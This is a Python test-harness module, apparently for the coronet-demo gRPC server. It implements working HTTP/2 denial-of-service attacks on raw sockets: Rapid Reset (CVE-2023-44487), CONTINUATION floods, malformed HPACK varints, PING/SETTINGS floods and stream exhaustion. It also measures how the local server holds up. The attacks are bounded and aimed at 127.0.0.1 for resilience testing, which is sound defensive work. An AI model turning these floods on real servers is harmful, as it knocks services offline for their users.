"""Hostile HTTP/2 clients for the shared port of coronet-demo, on raw sockets and python3-h2's
HPACK codec, plus what the abuse tests measure: the demo process (alive, RSS, CPU seconds),
a well-behaved grpcio client in a separate process (latency of each SayHello while an attack
runs) and how an abusive connection ended (GOAWAY and its code, RST_STREAMs, EOF, reset,
or still open).

Every attack is bounded by a frame count and a deadline and sends to 127.0.0.1 only.

  h2_attacks.py probe PORT [PERIOD [TIMEOUT]]
      the healthy client: SayHello every PERIOD s until stdin closes, then one JSON line:
      latencies and failures
  h2_attacks.py {rapid-reset,continuation,hpack-string,hpack-varint,ping-flood} PORT [SIZE...]
      one attack by hand, at sizes past what the tests afford; its outcome as JSON
"""
import json
import os
import re
import socket
import struct
import subprocess
import sys
import threading
import time

import hpack

import demo_process

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 0x8
ERROR_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
               5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL",
               9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}
MAX_FRAME = 16384  # SETTINGS_MAX_FRAME_SIZE a peer must accept

SAY_HELLO = [(":method", "POST"), (":scheme", "http"), (":path", "/HelloWorld/SayHello"),
             (":authority", "127.0.0.1"), ("content-type", "application/grpc"), ("te", "trailers")]


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings(pairs=(), ack=False):
    return frame(SETTINGS, ACK if ack else 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def rst_stream(stream, code=CANCEL):
    return frame(RST_STREAM, 0, stream, struct.pack(">I", code))


def grpc_message(payload):
    """One length-prefixed gRPC message (uncompressed)."""
    return b"\x00" + struct.pack(">I", len(payload)) + payload


def greeting(text):
    """proto/hello.proto's Greeting{message: text}, any length."""
    data = text.encode() if isinstance(text, str) else text
    n, varint = len(data), b""
    while True:
        byte, n = n & 0x7F, n >> 7
        varint += bytes([byte | (0x80 if n else 0)])
        if not n:
            break
    return b"\x0a" + varint + data


def hpack_int(value, prefix_bits, first_byte_flags=0):
    """RFC 7541 5.1 integer with an N-bit prefix; value may be absurdly large."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte_flags | value])
    out, value = bytearray([first_byte_flags | limit]), value - limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name, value, indexed=False):
    """A literal header field with a literal name, without Huffman coding; names and values
    are bytes and go out as they are, valid or not."""
    out = b"\x40" if indexed else b"\x00"
    out += hpack_int(len(name), 7) + name
    return out + hpack_int(len(value), 7) + value


def header_block_frames(stream, block, end_stream=False, chunk=MAX_FRAME):
    """HEADERS plus as many CONTINUATIONs as the block needs."""
    pieces = [block[i : i + chunk] for i in range(0, len(block), chunk)] or [b""]
    out = []
    for i, piece in enumerate(pieces):
        last = i == len(pieces) - 1
        flags = (END_HEADERS if last else 0) | (END_STREAM if i == 0 and end_stream else 0)
        out.append(frame(HEADERS if i == 0 else CONTINUATION, flags, stream, piece))
    return b"".join(out)


class Conn:
    """A raw HTTP/2 connection with a reader thread that parses what the server sends and
    notes how the connection ends. read=False: nothing is read (the server's writes back up
    into a small receive buffer) until drain() is called."""

    def __init__(self, port, read=True, preface=True, hello_settings=True, rcvbuf=None,
                 ack_settings=True):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.sock.connect(("127.0.0.1", port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.opened = time.monotonic()
        self.frames = {}           # type -> count
        self.goaway = None         # (error code, debug data)
        self.rst_codes = {}        # error code -> count
        self.end = None            # "eof", "reset" or None (open)
        self.ended_after = None
        self.send_error = None
        self.sent_frames = 0
        self.ack_settings = ack_settings
        self.server_settings = {}  # SETTINGS identifier -> value, as the server sent them
        self._send_lock = threading.Lock()
        self._pending_acks = 0
        self._buf = b""
        self._lock = threading.Lock()
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 24
        self.responses = {}        # stream -> {header: value}, HEADERS and trailers merged
        self._block = None         # (stream, bytes) of a header block awaiting CONTINUATION
        if preface:
            self.send(PREFACE + (settings() if hello_settings else b""))
        self._reader = None
        if read:
            self.start_reading()
            if preface and ack_settings:
                # Attack from a settled connection: the server's SETTINGS (its limits) received
                # and acknowledged, so they apply to what follows (RFC 9113 6.5.3).
                deadline = time.monotonic() + 5
                while not self.server_settings and self.end is None and time.monotonic() < deadline:
                    time.sleep(0.002)

    def start_reading(self):
        if self._reader is None:
            self._reader = threading.Thread(target=self._read_loop, daemon=True)
            self._reader.start()

    def _read_loop(self):
        while True:
            try:
                data = self.sock.recv(1 << 16)
            except (ConnectionResetError, OSError) as e:
                self._finish("reset" if isinstance(e, ConnectionResetError) else "eof")
                return
            if not data:
                self._finish("eof")
                return
            self._parse(data)

    def _finish(self, how):
        with self._lock:
            if self.end is None:
                self.end, self.ended_after = how, time.monotonic() - self.opened

    def _parse(self, data):
        self._buf += data
        i = 0
        while len(self._buf) - i >= 9:
            length = int.from_bytes(self._buf[i : i + 3], "big")
            if len(self._buf) - i < 9 + length:
                break
            kind = self._buf[i + 3]
            payload = self._buf[i + 9 : i + 9 + length]
            self.frames[kind] = self.frames.get(kind, 0) + 1
            flags = self._buf[i + 4]
            if kind == SETTINGS and not flags & ACK:
                self.server_settings.update(struct.unpack(">HI", payload[j : j + 6])
                                            for j in range(0, len(payload) - 5, 6))
            if kind == SETTINGS and not flags & ACK and self.ack_settings:
                self._ack_settings()  # as a real client would: the server's limits apply
            if kind == GOAWAY and len(payload) >= 8:
                self.goaway = (ERROR_NAMES.get(int.from_bytes(payload[4:8], "big"),
                                               int.from_bytes(payload[4:8], "big")),
                               payload[8:200].decode(errors="replace"))
            elif kind in (HEADERS, CONTINUATION):
                self._header_fragment(kind, self._buf[i + 4], int.from_bytes(self._buf[i + 5 : i + 9], "big") & 0x7FFFFFFF, payload)
            elif kind == RST_STREAM and len(payload) == 4:
                code = ERROR_NAMES.get(int.from_bytes(payload, "big"), int.from_bytes(payload, "big"))
                self.rst_codes[code] = self.rst_codes.get(code, 0) + 1
            i += 9 + length
        self._buf = self._buf[i:]

    def _header_fragment(self, kind, flags, stream, payload):
        if kind == HEADERS:
            if flags & 0x8:  # PADDED
                payload = payload[1 : len(payload) - payload[0]]
            if flags & 0x20:  # PRIORITY
                payload = payload[5:]
            self._block = (stream, payload)
        elif self._block:
            self._block = (stream, self._block[1] + payload)
        if flags & END_HEADERS and self._block:
            try:
                fields = self.decoder.decode(self._block[1])
            except Exception as e:  # a server bug worth seeing, not a reason to stop reading
                fields = [("x-undecodable", repr(e))]
            self.responses.setdefault(self._block[0], {}).update(fields)
            self._block = None

    def grpc_statuses(self):
        """grpc-status -> count over the streams that got one."""
        out = {}
        for fields in self.responses.values():
            if "grpc-status" in fields:
                out[fields["grpc-status"]] = out.get(fields["grpc-status"], 0) + 1
        return out

    def _ack_settings(self):
        # Never wait for the sending thread (it may be blocked on a full socket): if it is
        # sending, the ACK goes out ahead of its next send.
        if self._send_lock.acquire(blocking=False):
            try:
                if not self.send_error:
                    self.sock.sendall(settings(ack=True))
            except OSError:
                pass
            finally:
                self._send_lock.release()
        else:
            self._pending_acks += 1

    def send(self, data):
        """False once the server has closed or reset the connection."""
        if self.send_error:
            return False
        try:
            with self._send_lock:
                acks, self._pending_acks = self._pending_acks, 0
                self.sock.sendall(settings(ack=True) * acks + data)
            return True
        except OSError as e:
            self.send_error = type(e).__name__
            self._finish("reset" if isinstance(e, (ConnectionResetError, BrokenPipeError)) else "eof")
            return False

    def send_frames(self, frames):
        self.sent_frames += len(frames)
        return self.send(b"".join(frames))

    def wait_end(self, timeout):
        """Waits (reading) up to timeout for the server to close the connection."""
        self.start_reading()
        deadline = time.monotonic() + timeout
        while self.end is None and time.monotonic() < deadline:
            time.sleep(0.02)
        return self.end

    def close(self):
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()
        if self._reader:
            self._reader.join(timeout=2)

    def summary(self):
        names = {DATA: "DATA", HEADERS: "HEADERS", RST_STREAM: "RST_STREAM", SETTINGS: "SETTINGS",
                 PING: "PING", GOAWAY: "GOAWAY", WINDOW_UPDATE: "WINDOW_UPDATE"}
        return {"end": self.end or "open",
                "ended_after_s": None if self.ended_after is None else round(self.ended_after, 3),
                "goaway": self.goaway, "rst": self.rst_codes,
                "received": {names.get(k, k): v for k, v in self.frames.items()},
                "grpc_status": self.grpc_statuses(),
                "first_response": next(iter(self.responses.values()), None),
                "sent_frames": self.sent_frames, "send_error": self.send_error}


def _bounded(deadline, i, n):
    return i < n and time.monotonic() < deadline


# --- the attacks: each returns a dict that says what was sent and how the connection ended ---

def rapid_reset(port, streams, seconds, batch=200, conn=None):
    """CVE-2023-44487: HEADERS of a SayHello call, RST_STREAM(CANCEL) right after, streams
    times on one connection, as fast as the socket takes them."""
    c = conn or Conn(port)
    first = c.encoder.encode(SAY_HELLO)
    again = c.encoder.encode(SAY_HELLO)  # all indexed now: a few bytes
    deadline, sid, sent = time.monotonic() + seconds, 1, 0
    while _bounded(deadline, sent, streams):
        frames = []
        for _ in range(min(batch, streams - sent)):
            frames += [frame(HEADERS, END_HEADERS, sid, first if sid == 1 else again), rst_stream(sid)]
            sid, sent = sid + 2, sent + 1
        if not c.send_frames(frames):
            break
    c.wait_end(0.5)
    out = dict(c.summary(), streams=sent)
    if conn is None:
        c.close()
    return out


def control_flood(port, kind, count, seconds, batch=500, wait_s=0.5):
    """SETTINGS or PING frames, count of them, with the receive side left unread (and its
    buffer small), so every ACK the server owes has to wait in the server; then reads for
    up to wait_s for the server to close the connection."""
    c = Conn(port, read=False, rcvbuf=4096)
    if kind == "settings":
        one = settings([(0x4, 65535)])  # a valid SETTINGS_INITIAL_WINDOW_SIZE
    else:
        one = frame(PING, 0, 0, b"\x00" * 8)
    deadline, sent = time.monotonic() + seconds, 0
    c.sock.settimeout(max(0.1, seconds))
    while _bounded(deadline, sent, count):
        n = min(batch, count - sent)
        if not c.send_frames([one] * n):
            break
        sent += n
    stalled = sent < count and not c.send_error
    c.wait_end(wait_s)
    out = dict(c.summary(), frames=sent, stalled_by_server=stalled)
    c.close()
    return out


def continuation_flood(port, frames_count, seconds, grow=0, batch=500):
    """HEADERS without END_HEADERS, then CONTINUATIONs that never end the block: empty ones
    (grow=0) or each carrying grow more bytes of a header block (new literal headers)."""
    c = Conn(port)
    block = c.encoder.encode(SAY_HELLO)
    if not c.send_frames([frame(HEADERS, 0, 1, block)]):
        return dict(c.summary(), frames=0)
    deadline, sent, n = time.monotonic() + seconds, 0, 0
    while _bounded(deadline, sent, frames_count):
        frames = []
        for _ in range(min(batch, frames_count - sent)):
            payload = b""
            while len(payload) < grow:
                payload += literal(b"x-flood-%d" % n, b"v" * 32)
                n += 1
            frames.append(frame(CONTINUATION, 0, 1, payload))
            sent += 1
        if not c.send_frames(frames):
            break
    c.wait_end(0.5)
    out = dict(c.summary(), frames=sent, header_bytes=sent * grow)
    c.close()
    return out


def header_attack(port, block, seconds=5, body=True, settle=True):
    """One SayHello call whose header block is block (already HPACK-encoded, valid or not),
    then its request message (body=False: none); says what the call got (grpc-status,
    RST_STREAM) and whether the connection went away. settle=False: the server's SETTINGS
    are never acknowledged, so its SETTINGS_MAX_HEADER_LIST_SIZE is not yet in force."""
    c = Conn(port, ack_settings=settle)
    c.send_frames([header_block_frames(1, block)])
    if body:
        c.send_frames([frame(DATA, END_STREAM, 1, grpc_message(greeting("x")))])
    deadline = time.monotonic() + seconds
    while (time.monotonic() < deadline and c.end is None and not c.grpc_statuses()
           and not c.rst_codes):
        time.sleep(0.02)
    time.sleep(0.1)
    out = dict(c.summary(), block_bytes=len(block))
    c.close()
    return out


def say_hello_block(encoder, extra):
    """The HPACK block of a SayHello call plus extra, a block of literal fields (bytes)."""
    return encoder.encode(SAY_HELLO) + extra


def padded_varint_block(encoder, zeros):
    """A literal whose name length is an HPACK integer padded with `zeros` continuation bytes
    that add nothing (0x80: zero, more follows); RFC 7541 sets no limit on them."""
    return encoder.encode(SAY_HELLO) + b"\x00\x7f" + b"\x80" * zeros + b"\x00"


def huge_varint_block(encoder, claimed, sent_bytes):
    """A literal whose name length claims `claimed` bytes (a huge HPACK varint) with
    sent_bytes of it following."""
    return encoder.encode(SAY_HELLO) + b"\x00" + hpack_int(claimed, 7) + b"a" * sent_bytes


def open_streams(port, count, seconds, with_data=False):
    """count SayHello streams opened on one connection and left open (no END_STREAM), more
    than any SETTINGS_MAX_CONCURRENT_STREAMS; with_data: each also gets its message. Says
    how many the server refused (RST_STREAM REFUSED_STREAM) and answered."""
    c = Conn(port)
    first = c.encoder.encode(SAY_HELLO)
    again = c.encoder.encode(SAY_HELLO)
    body = grpc_message(greeting("x"))
    deadline, sid, sent = time.monotonic() + seconds, 1, 0
    while _bounded(deadline, sent, count):
        frames = []
        for _ in range(min(200, count - sent)):
            frames.append(frame(HEADERS, END_HEADERS, sid, first if sid == 1 else again))
            if with_data:
                frames.append(frame(DATA, 0, sid, body))
            sid, sent = sid + 2, sent + 1
        if not c.send_frames(frames):
            break
    time.sleep(0.5)
    out = dict(c.summary(), streams=sent)
    return c, out


def idle_conns(port, count, with_settings):
    return [Conn(port, read=False, hello_settings=with_settings) for _ in range(count)]


def oversized_message(port, claimed, sent_bytes, seconds=5):
    """A SayHello whose gRPC length prefix claims `claimed` bytes, sent_bytes of it sent."""
    c = Conn(port)
    c.send_frames([frame(HEADERS, END_HEADERS, 1, c.encoder.encode(SAY_HELLO))])
    head = b"\x00" + struct.pack(">I", claimed)
    payload = head + b"\x00" * sent_bytes
    frames = [frame(DATA, 0, 1, payload[i : i + MAX_FRAME]) for i in range(0, len(payload), MAX_FRAME)]
    # Flow control: the stream window is 64 KiB unless the server opens it further; what
    # does not fit is sent anyway, and the server says so (FLOW_CONTROL_ERROR) if it minds.
    c.send_frames(frames)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and c.end is None and not c.rst_codes and not c.frames.get(HEADERS):
        time.sleep(0.02)
    time.sleep(0.1)
    out = dict(c.summary(), claimed=claimed, sent_bytes=sent_bytes)
    c.close()
    return out


# --- the server under attack ---

class Demo:
    """coronet-demo on 127.0.0.1:0 with its stderr in a file."""

    def __init__(self, binary, args=(), stderr_path=None):
        self.stderr_path = stderr_path or "/tmp/coronet-h2abuse-%d.stderr" % os.getpid()
        self._stderr = open(self.stderr_path, "w+")
        self.proc = subprocess.Popen([binary, "--listen", "127.0.0.1:0", *args],
                                     stdout=subprocess.PIPE, stderr=self._stderr, text=True)
        line = self.proc.stdout.readline()
        m = re.search(r"listening on 127\.0\.0\.1:(\d+)", line)
        if not m:
            self.proc.kill()
            raise RuntimeError("coronet-demo did not start: " + line + self.stderr())
        self.port = int(m.group(1))
        self.pid = self.proc.pid

    def alive(self):
        return self.proc.poll() is None

    def stderr(self):
        self._stderr.flush()
        with open(self.stderr_path) as f:
            return f.read()

    def rss_kib(self):
        with open("/proc/%d/status" % self.pid) as f:
            return int(re.search(r"VmRSS:\s+(\d+)", f.read()).group(1))

    def cpu_s(self):
        with open("/proc/%d/stat" % self.pid) as f:
            fields = f.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def threads(self):
        return len(os.listdir("/proc/%d/task" % self.pid))

    def fds(self):
        return len(os.listdir("/proc/%d/fd" % self.pid))

    def stop(self):
        demo_process.stop(self.proc)
        self._stderr.close()


class Sampler:
    """Samples the demo's RSS and CPU seconds every period s in a thread, for the peak."""

    def __init__(self, demo, period=0.1):
        self.demo, self.period = demo, period
        self.samples = []  # (t, rss KiB, cpu s)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._t0 = time.monotonic()
        self._thread.start()

    def _run(self):
        while not self._stop.is_set():
            try:
                self.samples.append((time.monotonic() - self._t0, self.demo.rss_kib(), self.demo.cpu_s()))
            except (OSError, AttributeError):
                return
            self._stop.wait(self.period)

    def stop(self):
        self._stop.set()
        self._thread.join()
        return self

    def peak_rss_kib(self):
        return max((s[1] for s in self.samples), default=None)


def http_get_root(port, timeout=5):
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
        s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        data = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    return data.split(b"\r\n", 1)[0], data.rsplit(b"\r\n\r\n", 1)[-1]


class Probe:
    """The healthy client: a separate process running `h2_attacks.py probe PORT`, so that an
    attack loop holding this interpreter's GIL does not show up as server latency."""

    def __init__(self, port, period=0.02, timeout=10):
        self.proc = subprocess.Popen([sys.executable, os.path.abspath(__file__), "probe", str(port),
                                      str(period), str(timeout)],
                                     stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        if self.proc.stdout.readline().strip() != "ready":
            raise RuntimeError("probe did not start")

    def finish(self):
        self.proc.stdin.close()
        out = json.loads(self.proc.stdout.readline())
        try:
            self.proc.wait(timeout=0.5)
        except subprocess.TimeoutExpired:  # grpcio's shutdown can linger; the figures are in
            self.proc.kill()
            self.proc.wait()
        self.proc.stdout.close()
        return out


def percentile(values, p):
    if not values:
        return None
    values = sorted(values)
    return values[min(len(values) - 1, int(round(p / 100 * (len(values) - 1))))]


def _probe_main(port, period, timeout):
    import grpc

    stop = threading.Event()
    latencies, failures = [], []

    def watch_stdin():
        sys.stdin.read()
        stop.set()

    with grpc.insecure_channel("127.0.0.1:%d" % port) as channel:
        call = channel.unary_unary("/HelloWorld/SayHello", request_serializer=greeting,
                                   response_deserializer=lambda raw: raw)
        call("warm-up", timeout=10)
        threading.Thread(target=watch_stdin, daemon=True).start()
        print("ready", flush=True)
        while not stop.is_set():
            start = time.monotonic()
            try:
                reply = call("probe", timeout=timeout)
                if reply != greeting("Hello, probe"):
                    failures.append("wrong reply")
                latencies.append(time.monotonic() - start)
            except grpc.RpcError as e:
                failures.append("%s %s" % (e.code().name, e.details()))
            stop.wait(period)
    print(json.dumps({"latencies": latencies, "failures": failures}), flush=True)


def _main(argv):
    if len(argv) >= 3 and argv[1] == "probe":
        _probe_main(int(argv[2]), float(argv[3]) if len(argv) > 3 else 0.02,
                    float(argv[4]) if len(argv) > 4 else 10)
        return 0
    shapes = {
        "rapid-reset": lambda port, streams="10000": rapid_reset(port, int(streams), 60),
        "continuation": lambda port, frames="20000", grow="1000":
            continuation_flood(port, int(frames), 60, grow=int(grow)),
        "hpack-string": lambda port, mib="4": header_attack(
            port, huge_varint_block(hpack.Encoder(), 1 << 28, int(float(mib) * (1 << 20))),
            body=False, seconds=120),
        "hpack-varint": lambda port, mzeros="2": header_attack(
            port, padded_varint_block(hpack.Encoder(), int(float(mzeros) * (1 << 20))),
            body=False, seconds=120),
        "ping-flood": lambda port, count="20000": control_flood(port, "ping", int(count), 60),
    }
    if len(argv) < 3 or argv[1] not in shapes:
        print("usage: h2_attacks.py probe PORT [PERIOD [TIMEOUT]]\n"
              "       h2_attacks.py {%s} PORT [SIZE...]   one attack on 127.0.0.1:PORT, its "
              "outcome as JSON" % ",".join(shapes), file=sys.stderr)
        return 2
    start = time.monotonic()
    out = shapes[argv[1]](int(argv[2]), *argv[3:])
    print(json.dumps(dict(out, wall_s=round(time.monotonic() - start, 2)), default=str))
    return 0


if __name__ == "__main__":
    sys.exit(_main(sys.argv))
